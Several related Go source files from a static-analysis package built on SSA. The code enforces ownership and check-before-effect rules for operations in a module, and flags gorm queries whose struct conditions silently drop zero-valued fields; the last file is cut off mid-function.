// AppendChainElems collects the element values that were appended to / stored in the slice value v:
// follows append(x, lit...) chains and slice literals. fromCaller is true if the chain starts at a parameter.
func AppendChainElems(v ssa.Value) (elems []ssa.Value, fromCaller bool) {
	for depth := 0; depth < 10; depth++ {
		v = stripConv(v)
		switch x := v.(type) {
		case *ssa.Call:
			b, ok := x.Call.Value.(*ssa.Builtin)
			if !ok || b.Name() != "append" || len(x.Call.Args) != 2 {
				return elems, fromCaller
			}
			elems = append(elems, SliceLitElems(x.Call.Args[1])...)
			v = x.Call.Args[0]
			continue
		case *ssa.Parameter:
			return elems, true
		case *ssa.Slice:
			elems = append(elems, SliceLitElems(x)...)
			return elems, fromCaller
		}
		return elems, fromCaller
	}
	return elems, fromCaller
}

// CellLoadsStoredFrom: loads of variable cells (locals, captured variables) into which — somewhere in the enclosing
// function and its closures — the idx-th result of a call of callee is stored (-1: any/sole result). Identifies a
// variable by what it holds, not by its name.
func CellLoadsStoredFrom(callee Callee, idx int) func(fn *ssa.Function) []ssa.Value {
	return func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				u, ok := in.(*ssa.UnOp)
				if !ok || u.Op != token.MUL {
					continue
				}
				switch u.X.(type) {
				case *ssa.Alloc, *ssa.FreeVar:
				default:
					continue
				}
				for _, st := range storesTo(u.X) {
					if CallV(callee, idx).M(st.Val) {
						out = append(out, u)
						break
					}
				}
			}
		}
		return out
	}
}

// CellLoadsStoredIn: loads (in fn) of variable cells that are assigned inside the closure cl.
func CellLoadsStoredIn(cl *ssa.Function, typeName string) func(fn *ssa.Function) []ssa.Value {
	return func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				u, ok := in.(*ssa.UnOp)
				if !ok || u.Op != token.MUL || u.Type().String() != typeName {
					continue
				}
				switch u.X.(type) {
				case *ssa.Alloc, *ssa.FreeVar:
				default:
					continue
				}
				for _, st := range storesTo(u.X) {
					if st.Parent() == cl {
						out = append(out, u)
						break
					}
				}
			}
		}
		return out
	}
}

// ConstV matches a constant operand whose value equals the package-level constant pkgRel.name (the compiler folds
// `name + other` into one constant, so a widened bound no longer matches).
func (p *Prog) ConstV(pkgRel, name string) VPat {
	want, ok := p.ConstValue(pkgRel, name)
	return VPat{"the constant " + name, func(v ssa.Value) bool {
		if !ok {
			return false
		}
		c, isC := stripConv(v).(*ssa.Const)
		return isC && c.Value != nil && constString(c.Value) == want
	}}
}
