package an

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// Site is a program point in the module.
type Site struct {
	Fn    *ssa.Function
	Instr ssa.Instruction
	Pos   token.Pos
	Note  string
}

// EachInstr visits every instruction of every module function (including anonymous functions).
func (p *Prog) EachInstr(f func(fn *ssa.Function, in ssa.Instruction)) {
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				f(fn, in)
			}
		}
	}
}

// CallSites lists every call (call/go/defer) in the module matching c, plus — when refs is set — every place where a
// matching function is used as a value (method values, function arguments).
func (p *Prog) CallSites(c Callee, refs bool) []Site {
	var out []Site
	p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
		if ci, ok := in.(ssa.CallInstruction); ok {
			if c.M(ci.Common()) {
				out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos()})
				return
			}
		}
		if !refs {
			return
		}
		var ops []*ssa.Value
		ops = in.Operands(ops)
		for i, op := range ops {
			if *op == nil {
				continue
			}
			f, ok := (*op).(*ssa.Function)
			if !ok {
				if mc, ok2 := (*op).(*ssa.MakeClosure); ok2 {
					f, ok = mc.Fn.(*ssa.Function)
				}
			}
			if !ok || f == nil {
				continue
			}
			if ci, isCall := in.(ssa.CallInstruction); isCall && i == 0 && !ci.Common().IsInvoke() {
				continue // callee position, handled above
			}
			fake := &ssa.CallCommon{Value: f}
			if c.M(fake) {
				out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos(), Note: "function value reference"})
			}
		}
	})
	return out
}

// OwnSpec: all sites of an operation must lie in functions of the owner table.
type OwnSpec struct {
	ID     string
	Op     string            // description of the operation
	Sites  []Site            // all sites found (before class filtering)
	Owners map[string]string // FuncName(outer function) -> reason. A trailing ".*" entry owns a whole package ("crypto/storage/fs.*")
	Min    int               // minimal number of in-scope sites (anchor check)
	// IncludeClasses: file classes in scope; default prod+generated
	Classes []string
}

func (r *Report) ownerOf(owners map[string]string, name string) (string, bool) {
	if reason, ok := owners[name]; ok {
		return reason, true
	}
	for k, reason := range owners {
		if strings.HasSuffix(k, ".*") {
			prefix := strings.TrimSuffix(k, "*")
			// function names look like "pkg/path.Func" or "(*pkg/path.T).m" or "(pkg/path.T).m"
			n := strings.TrimLeft(name, "(*")
			if strings.HasPrefix(n, prefix) {
				return reason, true
			}
		}
		if strings.HasSuffix(k, "/**") {
			prefix := strings.TrimSuffix(k, "**")
			n := strings.TrimLeft(name, "(*")
			if strings.HasPrefix(n, prefix) {
				return reason, true
			}
		}
	}
	return "", false
}

func (r *Report) Own(s OwnSpec) {
	classes := s.Classes
	if classes == nil {
		classes = []string{"prod", "generated"}
	}
	inClass := func(c string) bool {
		for _, x := range classes {
			if x == c {
				return true
			}
		}
		return false
	}
	rule := "OWN: " + s.Op + " only in the owner table"
	n := 0
	byOwner := map[string]int{}
	fnOf := map[string]*ssa.Function{}
	var firstPos = map[string]string{}
	for _, site := range s.Sites {
		if cls := r.P.FileClass(r.P.FuncPos(site.Fn)); !inClass(cls) && !(Outer(site.Fn).Synthetic == "package initializer" && inClass("prod")) {
			continue
		}
		n++
		name := r.P.FuncName(Outer(site.Fn))
		fnOf[name] = Outer(site.Fn)
		byOwner[name]++
		if _, ok := firstPos[name]; !ok {
			firstPos[name] = r.P.Pos(site.Pos)
		}
	}
	r.Sites += n
	if n < s.Min {
		r.Lost(s.ID, rule, fmt.Sprintf("%d in-scope sites of [%s] found, expected >= %d", n, s.Op, s.Min))
		return
	}
	var names []string
	for k := range byOwner {
		names = append(names, k)
	}
	sort.Strings(names)
	bad := 0
	var via []string
	for _, name := range names {
		if _, ok := r.ownerOf(s.Owners, name); !ok {
			// a private helper that only owners call (and that is never used as a value) adds no new way to trigger the
			// operation: the code of an owner was extracted into it
			if len(s.Owners) > 0 && r.onlyCalledByOwners(fnOf[name], s.Owners, 0) {
				via = append(via, name)
				continue
			}
			// the reverse refactoring: an owner was inlined into the function that used to call it (the owner is gone, the
			// baseline inventory records the call)
			if o, ok := r.P.InlinedOwnerOf(fnOf[name], s.Owners); ok {
				via = append(via, name+" (owner "+o+" inlined)")
				Rebindings = append(Rebindings, "owner "+o+" inlined into "+name)
				continue
			}
			bad++
			r.Bad(s.ID+" @ "+name, rule, firstPos[name], fmt.Sprintf("%s performs [%s] (%d site(s)) but is not an owner; owners: %s", name, s.Op, byOwner[name], ownerList(s.Owners)))
		}
	}
	if bad == 0 {
		d := fmt.Sprintf("%d sites in %d functions, all owners: %s", n, len(names), strings.Join(names, ", "))
		if len(via) > 0 {
			d += "; private helpers called only by owners: " + strings.Join(via, ", ")
		}
		r.OK(s.ID, rule, "", d, true)
	}
}

// onlyCalledByOwners: fn is an unexported named function, never used as a value, and every call of it sits in an owner
// (or in another such helper, two levels).
func (r *Report) onlyCalledByOwners(fn *ssa.Function, owners map[string]string, depth int) bool {
	if fn == nil || fn.Parent() != nil || depth > 2 {
		return false
	}
	obj, ok := fn.Object().(*types.Func)
	if !ok || obj.Exported() {
		return false
	}
	sites := r.P.CallSites(SSAFn(fn, fn.Name()), true)
	n := 0
	for _, s := range sites {
		if r.P.FileClass(r.P.FuncPos(s.Fn)) != "prod" {
			continue
		}
		ci, isCall := s.Instr.(ssa.CallInstruction)
		if !isCall || ci.Common().StaticCallee() != fn {
			return false // referenced as a value
		}
		n++
		caller := Outer(s.Fn)
		if _, ok := r.ownerOf(owners, r.P.FuncName(caller)); ok {
			continue
		}
		if !r.onlyCalledByOwners(caller, owners, depth+1) {
			return false
		}
	}
	return n > 0
}

func ownerList(m map[string]string) string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return strings.Join(ks, ", ")
}

// FieldStores lists all stores to field `field` of struct type pkg.typ in the module (through FieldAddr).
func (p *Prog) FieldStores(pkg, typ, field string) []Site {
	pp := pkgPath(pkg)
	var out []Site
	p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
		st, ok := in.(*ssa.Store)
		if !ok {
			return
		}
		fa, ok := st.Addr.(*ssa.FieldAddr)
		if !ok {
			return
		}
		if fieldIs(fa.X.Type(), fa.Field, pp, typ, field) {
			out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos()})
		}
	})
	return out
}

func fieldIs(t types.Type, idx int, pkg, typ, field string) bool {
	if p, ok := t.Underlying().(*types.Pointer); ok {
		t = p.Elem()
	}
	n, ok := t.(*types.Named)
	if !ok {
		return false
	}
	if n.Obj().Name() != typ || n.Obj().Pkg() == nil || n.Obj().Pkg().Path() != pkg {
		return false
	}
	st, ok := n.Underlying().(*types.Struct)
	if !ok || idx >= st.NumFields() {
		return false
	}
	return st.Field(idx).Name() == field
}

// FieldReads lists all reads (FieldAddr/Field not used solely as store target) of a field.
func (p *Prog) FieldAccesses(pkg, typ, field string) []Site {
	pp := pkgPath(pkg)
	var out []Site
	p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
		switch x := in.(type) {
		case *ssa.FieldAddr:
			if fieldIs(x.X.Type(), x.Field, pp, typ, field) {
				out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos()})
			}
		case *ssa.Field:
			if fieldIs(x.X.Type(), x.Field, pp, typ, field) {
				out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos()})
			}
		}
	})
	return out
}

// GormStructConds lists calls of gorm condition/update builders (Where, Or, Not, Updates, and the inline conditions of
// First/Find/Take/Last/Delete) whose condition argument is a struct or a pointer to a struct: gorm builds the SQL
// from the non-zero fields only, so a zero value ("" / 0 / false) silently drops the condition or the update.
// It also returns the number of such builder calls with a string condition (control count).
func (p *Prog) GormStructConds(pkgPrefixes ...string) (structSites []Site, stringConds int) {
	isStructish := func(v ssa.Value) bool {
		v = stripConv(v)
		if mi, ok := v.(*ssa.MakeInterface); ok {
			v = mi.X
		}
		t := v.Type()
		if pt, ok := t.Underlying().(*types.Pointer); ok {
			t = pt.Elem()
		}
		_, ok := t.Underlying().(*types.Struct)
		return ok
	}
	p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
		ci, ok := in.(ssa.CallInstruction)
		if !ok {
			return
		}
		f := ci.Common().StaticCallee()
		if f == nil || f.Pkg == nil || f.Pkg.Pkg.Path() != "gorm.io/gorm" || f.Signature.Recv() == nil {
			return
		}
		in0 := false
		for _, pre := range pkgPrefixes {
			if fn.Pkg != nil && strings.HasPrefix(fn.Pkg.Pkg.Path(), ModPath+"/"+pre) {
				in0 = true
			}
		}
		if !in0 || p.FileClass(p.FuncPos(fn)) != "prod" {
			return
		}
		args := ci.Common().Args[1:]
		var cond ssa.Value
		switch f.Name() {
		case "Where", "Or", "Not":
			if len(args) > 0 {
				cond = args[0]
			}
		case "Updates":
			if len(args) > 0 {
				cond = args[0]
			}
		case "First", "Find", "Take", "Last", "Delete":
			// inline conditions: variadic after the destination
			if els := VariadicElems(ci); len(els) > 0 {
				cond = els[0]
			}
		default:
			return
		}
		if cond == nil {
			return
		}
		if isStructish(cond) {
			structSites = append(structSites, Site{Fn: fn, Instr: in, Pos: in.Pos(), Note: f.Name() + " with a struct condition/value"})
		} else if _, ok := ConstString(stripConv(cond)); ok {
			stringConds++
		} else if mi, ok := stripConv(cond).(*ssa.MakeInterface); ok {
			if _, ok := ConstString(mi.X); ok {
				stringConds++
			}
		}
	})
	return
}
