package an

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// Site is a program point in the module.
type Site struct {
	Fn    *ssa.Function
	Instr ssa.Instruction
	Pos   token.Pos
	Note  string
}

// EachInstr visits every instruction of every module function (including anonymous functions).
func (p *Prog) EachInstr(f func(fn *ssa.Function, in ssa.Instruction)) {
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				f(fn, in)
			}
		}
	}
}

// CallSites lists every call (call/go/defer) in the module matching c, plus — when refs is set — every place where a
// matching function is used as a value (method values, function arguments).
func (p *Prog) CallSites(c Callee, refs bool) []Site {
	var out []Site
	p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
		if ci, ok := in.(ssa.CallInstruction); ok {
			if c.M(ci.Common()) {
				out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos()})
				return
			}
		}
		if !refs {
			return
		}
		var ops []*ssa.Value
		ops = in.Operands(ops)
		for i, op := range ops {
			if *op == nil {
				continue
			}
			f, ok := (*op).(*ssa.Function)
			if !ok {
				if mc, ok2 := (*op).(*ssa.MakeClosure); ok2 {
					f, ok = mc.Fn.(*ssa.Function)
				}
			}
			if !ok || f == nil {
				continue
			}
			if ci, isCall := in.(ssa.CallInstruction); isCall && i == 0 && !ci.Common().IsInvoke() {
				continue // callee position, handled above
			}
			fake := &ssa.CallCommon{Value: f}
			if c.M(fake) {
				out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos(), Note: "function value reference"})
			}
		}
	})
	return out
}

// OwnSpec: all sites of an operation must lie in functions of the owner table.
type OwnSpec struct {
	ID     string
	Op     string            // description of the operation
	Sites  []Site            // all sites found (before class filtering)
	Owners map[string]string // FuncName(outer function) -> reason. A trailing ".*" entry owns a whole package ("crypto/storage/fs.*")
	Min    int               // minimal number of in-scope sites (anchor check)
	// IncludeClasses: file classes in scope; default prod+generated
	Classes []string
}

func (r *Report) ownerOf(owners map[string]string, name string) (string, bool) {
	if reason, ok := owners[name]; ok {
		return reason, true
	}
	for k, reason := range owners {
		if strings.HasSuffix(k, ".*") {
			prefix := strings.TrimSuffix(k, "*")
			// function names look like "pkg/path.Func" or "(*pkg/path.T).m" or "(pkg/path.T).m"
			n := strings.TrimLeft(name, "(*")
			if strings.HasPrefix(n, prefix) {
				return reason, true
			}
		}
		if strings.HasSuffix(k, "/**") {
			prefix := strings.TrimSuffix(k, "**")
			n := strings.TrimLeft(name, "(*")
			if strings.HasPrefix(n, prefix) {
				return reason, true
			}
		}
	}
	return "", false
}

func (r *Report) Own(s OwnSpec) {
	classes := s.Classes
	if classes == nil {
		classes = []string{"prod", "generated"}
	}
	inClass := func(c string) bool {
		for _, x := range classes {
			if x == c {
				return true
			}
		}
		return false
	}
	rule := "OWN: " + s.Op + " only in the owner table"
	n := 0
	byOwner := map[string]int{}
	var firstPos = map[string]string{}
	for _, site := range s.Sites {
		if cls := r.P.FileClass(r.P.FuncPos(site.Fn)); !inClass(cls) && !(Outer(site.Fn).Synthetic == "package initializer" && inClass("prod")) {
			continue
		}
		n++
		name := r.P.FuncName(Outer(site.Fn))
		byOwner[name]++
		if _, ok := firstPos[name]; !ok {
			firstPos[name] = r.P.Pos(site.Pos)
		}
	}
	r.Sites += n
	if n < s.Min {
		r.Lost(s.ID, rule, fmt.Sprintf("%d in-scope sites of [%s] found, expected >= %d", n, s.Op, s.Min))
		return
	}
	var names []string
	for k := range byOwner {
		names = append(names, k)
	}
	sort.Strings(names)
	bad := 0
	for _, name := range names {
		if _, ok := r.ownerOf(s.Owners, name); !ok {
			bad++
			r.Bad(s.ID+" @ "+name, rule, firstPos[name], fmt.Sprintf("%s performs [%s] (%d site(s)) but is not an owner; owners: %s", name, s.Op, byOwner[name], ownerList(s.Owners)))
		}
	}
	if bad == 0 {
		r.OK(s.ID, rule, "", fmt.Sprintf("%d sites in %d functions, all owners: %s", n, len(names), strings.Join(names, ", ")), true)
	}
}

func ownerList(m map[string]string) string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return strings.Join(ks, ", ")
}

// FieldStores lists all stores to field `field` of struct type pkg.typ in the module (through FieldAddr).
func (p *Prog) FieldStores(pkg, typ, field string) []Site {
	pp := pkgPath(pkg)
	var out []Site
	p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
		st, ok := in.(*ssa.Store)
		if !ok {
			return
		}
		fa, ok := st.Addr.(*ssa.FieldAddr)
		if !ok {
			return
		}
		if fieldIs(fa.X.Type(), fa.Field, pp, typ, field) {
			out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos()})
		}
	})
	return out
}

func fieldIs(t types.Type, idx int, pkg, typ, field string) bool {
	if p, ok := t.Underlying().(*types.Pointer); ok {
		t = p.Elem()
	}
	n, ok := t.(*types.Named)
	if !ok {
		return false
	}
	if n.Obj().Name() != typ || n.Obj().Pkg() == nil || n.Obj().Pkg().Path() != pkg {
		return false
	}
	st, ok := n.Underlying().(*types.Struct)
	if !ok || idx >= st.NumFields() {
		return false
	}
	return st.Field(idx).Name() == field
}

// FieldReads lists all reads (FieldAddr/Field not used solely as store target) of a field.
func (p *Prog) FieldAccesses(pkg, typ, field string) []Site {
	pp := pkgPath(pkg)
	var out []Site
	p.EachInstr(func(fn *ssa.Function, in ssa.Instruction) {
		switch x := in.(type) {
		case *ssa.FieldAddr:
			if fieldIs(x.X.Type(), x.Field, pp, typ, field) {
				out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos()})
			}
		case *ssa.Field:
			if fieldIs(x.X.Type(), x.Field, pp, typ, field) {
				out = append(out, Site{Fn: fn, Instr: in, Pos: in.Pos()})
			}
		}
	})
	return out
}
