package an

import (
	"fmt"
	"go/constant"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// ---------- checks ----------

type Polarity int

const (
	ErrNil  Polarity = iota // result == nil passes
	NonNil                  // result != nil passes
	IsTrue                  // bool result true passes
	IsFalse                 // bool result false passes
)

func (p Polarity) String() string {
	return [...]string{"== nil", "!= nil", "true", "false"}[p]
}

// Check selects the branch edges that represent "the check passed".
type Check struct {
	Desc string
	// call-based
	Call   *Callee
	Result int // tuple index of the tested result; -1 = last (error) or the sole result
	Pass   Polarity
	// ArgOK optionally restricts matching call sites (e.g. constant arguments); sites failing it are reported.
	ArgOK   func(call ssa.CallInstruction) string // "" = ok, otherwise complaint
	Filter  func(call ssa.CallInstruction) bool   // optional: only these call sites belong to the check
	MinSite int
	// comparison-based
	Cmp *CmpPat
	// value-based: arbitrary tested values (e.g. the ok of a comma-ok type assertion), with Pass polarity
	Values func(fn *ssa.Function) []ssa.Value
	// TailOK: a `return <check call>()` in tail position counts as the gate for SuccessReturn effects (default true)
	NoTail bool
	// NoLift: do not accept a helper function that implies the check in place of the check (see wrapper lifting)
	NoLift bool
	// EachSiteTested: every matching call site must have its result tested by a branch (or returned in tail position);
	// a site whose result is discarded is reported (for "all of N attempts must fail/succeed" checks)
	EachSiteTested bool
}

// CmpPat: a comparison L op R (op in ==, <, <=; the matcher also recognises the mirrored and negated spellings).
type CmpPat struct {
	Op       token.Token // EQL, LSS, LEQ
	L, R     VPat
	PassWhen bool // the pass edge is the one where (L Op R) == PassWhen
}

func CallCheck(c Callee, result int, pass Polarity) Check {
	return Check{Desc: fmt.Sprintf("%s %s", c.Desc, pass), Call: &c, Result: result, Pass: pass}
}

func ErrCheck(c Callee) Check { return CallCheck(c, -1, ErrNil) }

func CmpCheck(desc string, op token.Token, l, r VPat, passWhen bool) Check {
	return Check{Desc: desc, Cmp: &CmpPat{op, l, r, passWhen}}
}

// ---------- effects ----------

type effSite struct {
	Block *ssa.BasicBlock
	Instr ssa.Instruction
	Via   *Edge  // if set, the effect happens when this edge is taken (phi-selected return value)
	Seq   []Edge // if set, the effect happens when these edges are taken in this order (nested phis); Via is the last
	Pos   token.Pos
	What  string
}

type Effect struct {
	Desc  string
	Sites func(g *gateRun) []effSite
}

func CallEffect(c Callee) Effect {
	return Effect{Desc: "call " + c.Desc, Sites: func(g *gateRun) []effSite {
		var out []effSite
		for _, ci := range Calls(g.fn, c) {
			out = append(out, effSite{Block: ci.Block(), Instr: ci, Pos: ci.Pos(), What: "call " + c.Desc})
		}
		if len(out) == 0 {
			// effect lifting: the effect may have been extracted into a helper of the same package; the call of the helper
			// then is where the effect happens in this function
			out = helperEffectSites(g, "call "+c.Desc, func(h *ssa.Function) bool { return len(CallsDeep(h, c)) > 0 })
		}
		return out
	}}
}

// helperEffectSites: calls (in g.fn) of same-package named functions for which has() holds, directly or one level down.
func helperEffectSites(g *gateRun, what string, has func(h *ssa.Function) bool) []effSite {
	var out []effSite
	if g.fn.Pkg == nil && (g.fn.Parent() == nil || Outer(g.fn).Pkg == nil) {
		return nil
	}
	pkg := Outer(g.fn).Pkg
	memo := map[*ssa.Function]bool{}
	var contains func(h *ssa.Function, depth int) bool
	contains = func(h *ssa.Function, depth int) bool {
		if v, ok := memo[h]; ok {
			return v
		}
		memo[h] = false
		if has(h) {
			memo[h] = true
			return true
		}
		if depth >= 1 {
			return false
		}
		for _, f := range WithAnons(h) {
			for _, b := range f.Blocks {
				for _, in := range b.Instrs {
					if ci, ok := in.(ssa.CallInstruction); ok {
						if h2 := ci.Common().StaticCallee(); h2 != nil && h2.Pkg == pkg && h2.Parent() == nil && len(h2.Blocks) > 0 && h2 != h {
							if contains(h2, depth+1) {
								memo[h] = true
								return true
							}
						}
					}
				}
			}
		}
		return false
	}
	for _, b := range g.fn.Blocks {
		for _, in := range b.Instrs {
			ci, ok := in.(ssa.CallInstruction)
			if !ok {
				continue
			}
			h := ci.Common().StaticCallee()
			if h == nil || h.Pkg != pkg || h.Parent() != nil || len(h.Blocks) == 0 || h == Outer(g.fn) {
				continue
			}
			if contains(h, 0) {
				out = append(out, effSite{Block: ci.Block(), Instr: ci, Pos: ci.Pos(), What: what + " (inside " + g.p.FuncName(h) + ")"})
			}
		}
	}
	return out
}

// InstrEffect: any instruction satisfying pred.
func InstrEffect(desc string, pred func(in ssa.Instruction) bool) Effect {
	return Effect{Desc: desc, Sites: func(g *gateRun) []effSite {
		var out []effSite
		for _, b := range g.fn.Blocks {
			for _, in := range b.Instrs {
				if pred(in) {
					out = append(out, effSite{Block: b, Instr: in, Pos: in.Pos(), What: desc})
				}
			}
		}
		if len(out) == 0 {
			out = helperEffectSites(g, desc, func(h *ssa.Function) bool {
				for _, f := range WithAnons(h) {
					for _, b := range f.Blocks {
						for _, in := range b.Instrs {
							if _, isRet := in.(*ssa.Return); isRet {
								continue // return-shaped effects belong to the function itself
							}
							if pred(in) {
								return true
							}
						}
					}
				}
				return false
			})
		}
		return out
	}}
}

// AnyEffect combines effects.
func AnyEffect(es ...Effect) Effect {
	var d []string
	for _, e := range es {
		d = append(d, e.Desc)
	}
	return Effect{Desc: strings.Join(d, " / "), Sites: func(g *gateRun) []effSite {
		var out []effSite
		for _, e := range es {
			out = append(out, e.Sites(g)...)
		}
		return out
	}}
}

// SuccessReturn: a return whose error result (last result of type error) may be nil. For functions returning bool
// (no error), use ReturnsBool.
func SuccessReturn() Effect {
	return Effect{Desc: "success return", Sites: func(g *gateRun) []effSite {
		return g.returnSites(func(sig *types.Signature) int {
			n := sig.Results().Len()
			for i := n - 1; i >= 0; i-- {
				if isErrorType(sig.Results().At(i).Type()) {
					return i
				}
			}
			return -1
		}, func(v ssa.Value, at *ssa.BasicBlock, via *Edge) bool { return g.errState(v, at, via) != stNonNil })
	}}
}

// ReturnsBool: a return whose idx-th result may equal want. Returning the check's own result (or its negation) in
// the polarity that makes the result `want` exactly when the check passes is the gate itself (tail position).
func ReturnsBool(idx int, want bool) Effect {
	return Effect{Desc: fmt.Sprintf("return %v", want), Sites: func(g *gateRun) []effSite {
		return g.returnSites(func(sig *types.Signature) int { return idx }, func(v ssa.Value, at *ssa.BasicBlock, _ *Edge) bool {
			if b, ok := ConstBool(v); ok {
				return b == want
			}
			atom, neg := condAtom(v)
			if pol, isCheck := g.checkPolarity(atom); isCheck && (pol == IsTrue || pol == IsFalse) {
				passVal := pol == IsTrue
				// returned = atom xor neg ; equals want iff atom == (want xor neg)
				if (want != neg) == passVal {
					g.tails++
					return false
				}
			}
			return true
		})
	}}
}

// ReturnsNonNil: a return whose idx-th result may be non-nil (for functions returning a pointer/slice as "accepted").
func ReturnsNonNil(idx int) Effect {
	return Effect{Desc: fmt.Sprintf("return non-nil result %d", idx), Sites: func(g *gateRun) []effSite {
		return g.returnSites(func(sig *types.Signature) int { return idx }, func(v ssa.Value, at *ssa.BasicBlock, _ *Edge) bool {
			return !IsNilConst(v)
		})
	}}
}

func isErrorType(t types.Type) bool {
	n, ok := t.(*types.Named)
	return ok && n.Obj().Pkg() == nil && n.Obj().Name() == "error"
}

// ---------- the gate ----------

type Gate struct {
	ID      string
	Fn      *ssa.Function
	Effect  Effect
	Check   Check
	ForEach bool            // the check sits in a loop that the effect follows
	Assume  map[string]bool // bool parameter assumptions
	Alt     []Check         // alternative checks: passing any of them suffices (pass edges are united)
	Skip    []Check         // edges allowed to bypass the check inside a ForEach loop body (their pass edge = allowed skip)
	// MinEffects: minimal number of effect sites (default 1)
	MinEffects int
	// LoopOnly (with ForEach): only require that the next iteration of the loop is reachable through a pass edge (or a
	// Skip edge); no effect is examined. Used for "the loop stops at the first failure".
	LoopOnly bool
	lift     int // internal: wrapper-lifting depth
	// AllowEarlyExit (with ForEach): the loop may be left before the range is exhausted on a path that still reaches
	// the effect (listed per instance with the reason)
	AllowEarlyExit bool
	// Start: analyse reachability from the block of the first instruction matching this callee rather than entry
	Note string
}

type gateRun struct {
	liftedForEach int // lifted sites whose helper contains the per-element loop
	lift          int // nesting depth of wrapper-lifting (0 = the anchored function itself)
	lifted        []string
	p             *Prog
	fn            *ssa.Function
	g             *Gate
	checkVals     map[ssa.Value]Polarity // values produced by check sites (tested result) with the polarity that passes
	checkCalls    []ssa.CallInstruction
	passEdges     EdgeSet
	// pathSensitive: a test on a phi that merges the check's result with other values passes only on the paths that
	// enter over the check's own incoming edges (recorded in cond); off for MUSTREACH/REFUSE, which use edges differently
	pathSensitive bool
	cond          map[Edge]map[*ssa.BasicBlock]bool
	tested        int
	tails         int // returns whose value is the check's own result (the return is the gate)
}

const (
	stMaybe = iota
	stNil
	stNonNil
)

func (g *gateRun) isCheckValue(v ssa.Value) bool {
	_, ok := g.checkPolarity(v)
	return ok
}

// checkPolarity: if v is the tested result of a check site, the polarity with which that check passes.
func (g *gateRun) checkPolarity(v ssa.Value) (Polarity, bool) {
	v = stripConv(v)
	pol, ok := g.checkVals[v]
	return pol, ok
}

// errState classifies an error-typed value at a block.
func (g *gateRun) errState(v ssa.Value, at *ssa.BasicBlock, via *Edge) int {
	if !g.g.Check.NoTail {
		if pol, ok := g.checkPolarity(v); ok && pol == ErrNil {
			g.tails++
			return stNonNil // tail return of the check itself: success iff the check passes — not an ungated success
		}
	}
	return g.p.errStateVia(v, at, via, 0)
}

func (p *Prog) errStateAt(v ssa.Value, at *ssa.BasicBlock, depth int) int {
	return p.errStateVia(v, at, nil, depth)
}

// errStateVia: like errStateAt, additionally knowing that control leaves `at` through edge via.
func (p *Prog) errStateVia(v ssa.Value, at *ssa.BasicBlock, via *Edge, depth int) int {
	switch x := v.(type) {
	case *ssa.Const:
		if x.IsNil() {
			return stNil
		}
		return stNonNil
	case *ssa.MakeInterface:
		return stNonNil
	case *ssa.Call:
		if p.callAlwaysNonNilErr(x.Common(), depth) {
			return stNonNil
		}
		// errors.Join(a, b, ...) is non-nil if any argument is
		if f := x.Common().StaticCallee(); f != nil && f.Pkg != nil && f.Pkg.Pkg.Path() == "errors" && f.Name() == "Join" {
			for _, el := range VariadicElems(x) {
				if p.errStateAt(el, at, depth+1) == stNonNil {
					return stNonNil
				}
			}
		}
	case *ssa.Extract:
		if c, ok := x.Tuple.(*ssa.Call); ok {
			_ = c
		}
	case *ssa.ChangeInterface:
		return p.errStateAt(x.X, at, depth)
	case *ssa.UnOp:
		if g, ok := x.X.(*ssa.Global); ok && x.Op == token.MUL && p.globalErrNonNil(g) {
			return stNonNil
		}
	}
	// dominating facts
	if at != nil {
		facts := edgeFacts(at)
		if via != nil && ifOf(via.From) != nil && len(via.From.Succs) == 2 && via.From.Succs[0] != via.From.Succs[1] {
			facts = append([]Edge{*via}, facts...)
		}
		for _, e := range facts {
			i := ifOf(e.From)
			if i == nil {
				continue
			}
			tv, nilWhenTrue, ok := nilTest(i.Cond)
			if !ok || !sameValue(tv, v, 3) && !sameValue(v, tv, 3) {
				continue
			}
			isNil := nilWhenTrue == (e.Succ == 0)
			if isNil {
				return stNil
			}
			return stNonNil
		}
	}
	return stMaybe
}

var nonNilErrCtors = map[string]bool{
	"fmt.Errorf": true, "errors.New": true,
	"google.golang.org/grpc/status.Error": true, "google.golang.org/grpc/status.Errorf": true,
}

func (p *Prog) callAlwaysNonNilErr(cc *ssa.CallCommon, depth int) bool {
	f := cc.StaticCallee()
	if f == nil {
		return false
	}
	if f.Pkg != nil && nonNilErrCtors[f.Pkg.Pkg.Path()+"."+f.Name()] {
		return true
	}
	return p.alwaysNonNilErr(f, depth+1)
}

var nonNilMemo = map[*ssa.Function]int{} // 0 unknown, 1 yes, 2 no, 3 in progress

func (p *Prog) alwaysNonNilErr(f *ssa.Function, depth int) bool {
	if f.Blocks == nil || depth > 4 {
		return false
	}
	switch nonNilMemo[f] {
	case 1:
		return true
	case 2, 3:
		return false
	}
	nonNilMemo[f] = 3
	res := f.Signature.Results()
	idx := -1
	for i := res.Len() - 1; i >= 0; i-- {
		if isErrorType(res.At(i).Type()) {
			idx = i
			break
		}
	}
	ok := idx >= 0
	if ok {
		n := 0
		for _, b := range f.Blocks {
